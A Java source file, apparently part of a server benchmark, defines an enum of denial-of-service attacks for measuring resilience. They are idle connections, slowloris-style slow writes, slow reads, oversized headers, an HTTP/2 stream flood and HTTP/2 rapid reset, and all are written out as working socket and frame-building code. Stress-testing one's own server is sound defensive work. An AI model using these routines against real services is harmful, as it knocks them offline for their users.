package dev.sixin.bench;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.sixin.bench.Attack.Worst;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.util.concurrent.TimeUnit;

/// The worst that connections do.
enum Harm {
  /// They say nothing.
  IDLE("idle connections"),
  /// They send a form, a byte each second.
  WRITE_SLOWLY("slow writers"),
  /// They ask for large pages and read a byte a second.
  READ_SLOWLY("slow readers"),
  /// They send headers that are too long.
  TALK_TOO_LONG("large headers"),
  /// They begin more calls than a connection may, and end none.
  FLOOD("stream flood"),
  /// They begin calls and give them up at once. The last: new connections from where they are are
  /// not welcome after it.
  RESET("rapid resets");

  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_HEADERS = 4;
  private static final byte[] CANCEL = {0, 0, 0, 8};
  private static final int STREAMS = 2_000;
  private static final int PAGES = 20;
  private static final int HEADER_BYTES = 100_000;

  private final String title;

  Harm(String title) {
    this.title = title;
  }

  /// Whom attackers have become.
  ///
  /// @param authorization the header's value
  /// @param talkerUid whom they have long messages with
  record User(String authorization, long talkerUid) {}

  /// As tables name it.
  String title() {
    return title;
  }

  /// What each connection does.
  Worst by(User user) {
    return switch (this) {
      case IDLE -> Harm::readToEnd;
      case WRITE_SLOWLY -> Harm::writeSlowly;
      case READ_SLOWLY -> connection -> readSlowly(connection, user);
      case TALK_TOO_LONG -> Harm::talkTooLong;
      case FLOOD -> connection -> begin(connection, user, false);
      case RESET -> connection -> begin(connection, user, true);
    };
  }

  private static void writeSlowly(Socket connection) throws IOException, InterruptedException {
    OutputStream out = connection.getOutputStream();
    String head =
        String.join(
            "\r\n",
            "POST /session_svr/v1/session_svr/set_top HTTP/1.1",
            "host: bench",
            "content-type: application/x-www-form-urlencoded",
            "content-length: 10000",
            "",
            "");
    out.write(head.getBytes(US_ASCII));
    while (connection.getInputStream().available() == 0) {
      out.write('a');
      TimeUnit.SECONDS.sleep(1);
    }
    readToEnd(connection);
  }

  private static void readSlowly(Socket connection, User user)
      throws IOException, InterruptedException {
    String request =
        """
        GET /svr_sync/v1/svr_sync/fetch_session_msgs?session_type=1&size=2000&talker_id=%d HTTP/1.1\r
        host: bench\r
        authorization: %s\r
        \r
        """
            .formatted(user.talkerUid(), user.authorization());
    connection.getOutputStream().write(request.repeat(PAGES).getBytes(US_ASCII));
    InputStream in = connection.getInputStream();
    while (in.read() >= 0) {
      TimeUnit.SECONDS.sleep(1);
    }
  }

  private static void talkTooLong(Socket connection) throws IOException, InterruptedException {
    String head = "GET / HTTP/1.1\r\nhost: bench\r\ncookie: " + "a".repeat(HEADER_BYTES);
    connection.getOutputStream().write((head + "\r\n\r\n").getBytes(US_ASCII));
    readToEnd(connection);
  }

  private static void begin(Socket connection, User user, boolean givesUp) throws IOException {
    byte[] authorization = user.authorization().getBytes(US_ASCII);
    ByteBuf out = Unpooled.buffer();
    out.writeCharSequence(PREFACE, US_ASCII);
    frame(out, SETTINGS, 0, 0, new byte[0]);
    HeaderBlocks blocks = new HeaderBlocks("bench");
    for (int i = 0; i < STREAMS; i++) {
      ByteBuf block = Unpooled.buffer();
      blocks.write(block, Texts.SEND.path(), authorization);
      frame(out, HEADERS, END_HEADERS, 1 + 2 * i, ByteBufUtil.getBytes(block));
      if (givesUp) {
        frame(out, RST_STREAM, 0, 1 + 2 * i, CANCEL);
      }
    }
    connection.getOutputStream().write(ByteBufUtil.getBytes(out));
    readToEnd(connection);
  }

  private static void frame(ByteBuf out, int type, int flags, int stream, byte[] payload) {
    out.writeMedium(payload.length).writeByte(type).writeByte(flags).writeInt(stream);
    out.writeBytes(payload);
  }

  private static void readToEnd(Socket connection) throws IOException {
    var _ = connection.getInputStream().transferTo(OutputStream.nullOutputStream());
  }
}
